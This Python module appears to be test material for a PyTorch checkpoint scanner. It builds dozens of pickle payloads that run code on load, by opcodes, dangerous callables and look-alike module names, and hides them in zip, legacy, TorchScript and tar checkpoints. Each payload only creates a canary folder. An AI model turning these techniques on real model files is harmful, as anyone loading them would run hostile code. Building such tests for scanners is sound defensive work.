"""Pickles that would run code, each by another technique. What they do is to make one empty folder.

A technique is the opcodes that leave one value on the stack, without the pickle's beginning and
end, so that it fits into any place of any container.
Sources of the techniques: the `pickle` module's documentation and the opcodes of `pickletools`;
github.com/mmaitre314/picklescan and github.com/trailofbits/fickling, lists of dangerous names.
"""

import copyreg
import io
import marshal
import os
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch

CANARY = "canary"  # the folder that a payload makes, beside the file that it stands in
EXTENSION = 0x41  # a code of copyreg, for the payloads that name no function


@dataclass(frozen=True)
class Payload:
    """Opcodes that act when they are run, and the name that a refusal must tell."""

    technique: str
    body: bytes
    name: str
    protocol: int = 2

    @property
    def pickled(self) -> bytes:
        head = b"" if self.protocol < 2 else b"\x80" + bytes([self.protocol])
        return head + self.body + b"."


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<L", len(data)) + data


def data(value: bytes) -> bytes:
    """Bytes, as protocol 3 has them."""
    return b"B" + struct.pack("<L", len(value)) + value


def named(name: str) -> bytes:
    module, _, attribute = name.partition(":")
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def called(name: str, *arguments: bytes) -> bytes:
    return named(name) + b"(" + b"".join(arguments) + b"tR"


class Reduced:
    """What pickle writes by itself for an object that says how it is made."""

    def __reduce__(self) -> tuple[Callable[..., None], tuple[str]]:
        return os.mkdir, (CANARY,)


MKDIR = called("posix:mkdir", text(CANARY))
CODE = f"__import__('os').mkdir({CANARY!r})"
TENSOR = b"ctorch._utils\n_rebuild_tensor_v2\n"

# Modules that lie beside the file, as a checkpoint's own would. Each acts where it is touched.
MODULES = {
    "lure.py": f"""
import os
def act(): os.makedirs({CANARY!r}, exist_ok=True)
class New:
    def __new__(cls, *args, **named): act(); return object.__new__(cls)
class State:
    def __setstate__(self, state): act()
class Slot:
    @property
    def value(self): return 0
    @value.setter
    def value(self, value): act()
class Call:
    def __call__(self, *args): act()
class Dict(dict):
    def __setitem__(self, key, value): act()
class List(list):
    def append(self, value): act()
    extend = append
class Hash:
    def __hash__(self): act(); return 1
""",
    "imported.py": f"import os\nos.makedirs({CANARY!r}, exist_ok=True)\nvalue = 1\n",
    "t\u043erch.py": f"import os\ndef Size(*args): os.makedirs({CANARY!r}, exist_ok=True)\n",
    "script.txt": f"import os\nos.makedirs({CANARY!r}, exist_ok=True)\n",
}


def _nested() -> bytes:
    """A checkpoint of the older format inside bytes, for the function that torch reads it with."""
    return legacy(Payload("", MKDIR, "posix.mkdir"))


def payloads() -> list[Payload]:
    """Every technique, each once."""
    found: list[Payload] = []

    def add(technique: str, body: bytes, name: str, protocol: int = 2) -> None:
        found.append(Payload(technique, body, name.replace(":", "."), protocol))

    def call(name: str, *arguments: bytes, protocol: int = 3) -> None:
        add(name, called(name, *arguments), name, protocol)

    for protocol in range(6):
        whole = pickle.dumps(Reduced(), protocol)
        body = whole[2 if protocol >= 2 else 0 : -1]
        add(f"protocol {protocol}", body, "posix.mkdir", protocol)

    # Ways to name a function and to call it.
    add("global, reduce", MKDIR, "posix.mkdir")
    add("stack global", text("posix") + text("mkdir") + b"\x93(" + text(CANARY) + b"tR",
        "posix.mkdir", 4)  # fmt: skip
    add("stack global of the memo", text("mkdir") + b"q\xc8" + text("posix") + b"h\xc8\x93("
        + text(CANARY) + b"tR", "posix.mkdir", 4)  # fmt: skip
    add("a dotted name", called("torch.serialization:os.mkdir", text(CANARY)),
        "torch.serialization.os.mkdir", 4)  # fmt: skip
    add("inst", b"(" + text(CANARY) + b"iposix\nmkdir\n", "posix.mkdir")
    add("obj", b"(" + named("lure:New") + b"o", "lure.New")
    add("newobj", named("lure:New") + b")\x81", "lure.New")
    add("newobj_ex", named("lure:New") + b")}\x92", "lure.New", 4)
    for code, size in ((b"\x82", "<B"), (b"\x83", "<H"), (b"\x84", "<L")):
        add(f"extension code of {size[1]}", code + struct.pack(size, EXTENSION) + b"("
            + text(CANARY) + b"tR", str(EXTENSION))  # fmt: skip
    add("build", named("lure:State") + b")\x81}" + text("a") + b"K\x01sb", "lure.State")
    add("build of slots", named("lure:Slot") + b")\x81N}" + text("value") + b"K\x01s\x86b",
        "lure.Slot")  # fmt: skip
    add("an instance that is called", named("lure:Call") + b")\x81)R", "lure.Call")
    add("setitem", named("lure:Dict") + b")\x81K\x01K\x02s", "lure.Dict")
    add("append", named("lure:List") + b")\x81K\x01a", "lure.List")
    add("hash", b"}" + named("lure:Hash") + b")\x81K\x01s", "lure.Hash")
    add("an import alone", named("imported:value"), "imported.value")
    add("a look-alike", called("t\u043erch:Size", b"K\x01"), "t\u043erch")

    # Places where a value is seldom looked for.
    add("as a key", b"}" + MKDIR + b"K\x01s", "posix.mkdir")
    add("in a tuple", b"(K\x01" + MKDIR + b"t", "posix.mkdir")
    add("in a list", b"](K\x01" + MKDIR + b"e", "posix.mkdir")
    add("taken away again", MKDIR + b"0N", "posix.mkdir")
    add("doubled", MKDIR + b"2\x86", "posix.mkdir")
    add("in the memo", MKDIR + b"q\x090h\x09", "posix.mkdir")
    add("in the arguments of a tensor", TENSOR + b"(" + MKDIR + b"K\x00)(K\x01t\x89tR",
        "posix.mkdir")  # fmt: skip
    add("in the state of a dict", b"ccollections\nOrderedDict\n)R}" + text("_metadata") + MKDIR
        + b"sb", "posix.mkdir")  # fmt: skip
    add("in the name of a storage", b"(" + text("storage") + MKDIR + b"tQ", "posix.mkdir")
    add("in front of a storage in text", MKDIR + b"0P1\n", "posix.mkdir")
    add("a function in a function", called("builtins:list", called("builtins:map",
        named("posix:mkdir"), b"](" + text(CANARY) + b"e")), "builtins.map", 4)  # fmt: skip

    # Functions that run what they are given.
    call("posix:system", text(f"mkdir {CANARY}"))
    call("os:system", text(f"mkdir {CANARY}"))
    call("os:makedirs", text(CANARY))
    call("subprocess:check_call", b"](" + text("mkdir") + text(CANARY) + b"e")
    call("builtins:eval", text(CODE))
    call("builtins:exec", text(CODE))
    call("timeit:timeit", text(CODE), text("pass"), named("time:perf_counter"), b"K\x01")
    call("cProfile:run", text(CODE), text("profile.out"))
    call("runpy:run_path", text("script.txt"))
    call("importlib:import_module", text("imported"))
    call("builtins:__import__", text("imported"))
    call("pickle:loads", data(b"\x80\x02" + MKDIR + b"."))
    call("_pickle:loads", data(b"\x80\x02" + MKDIR + b"."))
    call("torch.storage:_load_from_bytes", data(_nested()))
    call("numpy.testing._private.utils:runstring", text(CODE), b"}")
    made = called("marshal:loads", data(marshal.dumps(compile(CODE, "a", "eval"))))
    add("types.FunctionType", called("types:FunctionType", made, b"}") + b")R",
        "types.FunctionType", 4)  # fmt: skip
    add("pkgutil.resolve_name", called("pkgutil:resolve_name", text("posix:mkdir"))
        + b"(" + text(CANARY) + b"tR", "pkgutil.resolve_name")  # fmt: skip
    add("functools.partial", called("functools:partial", named("posix:mkdir"), text(CANARY))
        + b")R", "functools.partial")  # fmt: skip
    add("operator.attrgetter", called("operator:attrgetter", text("os.mkdir"))
        + b"(" + called("importlib:import_module", text("torch.serialization")) + b"tR"
        + b"(" + text(CANARY) + b"tR", "operator.attrgetter")  # fmt: skip
    add("operator.methodcaller", called("operator:methodcaller", text("mkdir"), text(CANARY))
        + b"(" + called("builtins:__import__", text("posix")) + b"tR",
        "operator.methodcaller")  # fmt: skip
    add("builtins.getattr", called("builtins:getattr", called("builtins:__import__", text("posix")),
        text("mkdir")) + b"(" + text(CANARY) + b"tR", "builtins.getattr")  # fmt: skip
    code = "class GraphModule:\n def forward(self): pass\n" + CODE
    add("torch.fx.graph_module.reduce_graph_module", called(
        "torch.fx.graph_module:reduce_graph_module", b"}" + text("_code") + text(code) + b"s",
        text(CODE + "\n")), "torch.fx.graph_module.reduce_graph_module")  # fmt: skip
    return found


# --- containers ----------------------------------------------------------------------------------


def _records(payload: Payload) -> dict[str, bytes]:
    """The records of a checkpoint with the payload beside its weights."""
    buffer = io.BytesIO()
    torch.save({"state_dict": {"a.weight": torch.ones(2)}}, buffer)
    with zipfile.ZipFile(buffer) as archive:
        records = {i.filename: archive.read(i) for i in archive.infolist()}
    name = next(n for n in records if n.endswith("data.pkl"))
    records[name] = _beside(records[name], payload)
    return records


def _beside(pickled: bytes, payload: Payload) -> bytes:
    """The dict of a pickle, with the payload as one more of its values."""
    head = b"\x80" + bytes([max(2, payload.protocol)])
    return head + pickled[2:-1] + text("extra") + payload.body + b"s."


def _zip(records: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in records.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def zipped(payload: Payload) -> bytes:
    return _zip(_records(payload))


def torchscript(payload: Payload) -> bytes:
    records = _records(payload)
    folder = next(iter(records)).partition("/")[0]
    constants = b"\x80\x02" + payload.body + b"."
    return _zip({**records, f"{folder}/constants.pkl": constants, f"{folder}/code/a.py": b""})


def legacy(payload: Payload) -> bytes:
    buffer = io.BytesIO()
    whole = {"state_dict": {"a.weight": torch.ones(2)}}
    torch.save(whole, buffer, _use_new_zipfile_serialization=False)
    content = buffer.getvalue()
    start = content.index(b"}q\x00X\x0a\x00\x00\x00state_dict") - 2
    end = content.index(b".\x80\x02]", start) + 1
    return content[:start] + _beside(content[start:end], payload) + content[end:]


def tar(payload: Payload) -> bytes:
    """Torch's oldest format: a tar file of pickles."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(name)
            entry.size = len(payload.pickled)
            archive.addfile(entry, io.BytesIO(payload.pickled))
    return buffer.getvalue()


CONTAINERS: dict[str, Callable[[Payload], bytes]] = {
    "zip": zipped,
    "legacy": legacy,
    "plain": lambda payload: payload.pickled,
    "torchscript": torchscript,
    "tar": tar,
}
NAMES_IT = ("zip", "legacy", "plain")  # the others are refused for what they are


# --- whether they are alive ----------------------------------------------------------------------


def acts(folder: Path, content: bytes, plain: bool) -> bool:
    """Whether a file acts on whoever reads it as pickles are read. In a process of its own."""
    path = folder / "alive.pth"
    path.write_bytes(content)
    child = os.fork()
    if child == 0:
        try:
            os.chdir(folder)
            sys.path.insert(0, str(folder))
            copyreg.add_extension("posix", "mkdir", EXTENSION)
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                pickle.loads(content) if plain else torch.load(path, weights_only=False)
        except BaseException:
            pass
        finally:
            os._exit(0)
    os.waitpid(child, 0)
    path.unlink()
    done = (folder / CANARY).is_dir()
    if done:
        (folder / CANARY).rmdir()
    return done


def put_modules(folder: Path) -> None:
    for name, code in MODULES.items():
        (folder / name).write_text(code)


def main(folder: Path) -> None:
    """Prints what does not act, for the containers that torch reads, and for pickle itself."""
    put_modules(folder)
    for payload in payloads():
        for container in NAMES_IT:
            content = CONTAINERS[container](payload)
            if not acts(folder, content, container == "plain"):
                print(f"{payload.technique} in {container}")


if __name__ == "__main__":
    os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
    main(Path(sys.argv[1]))
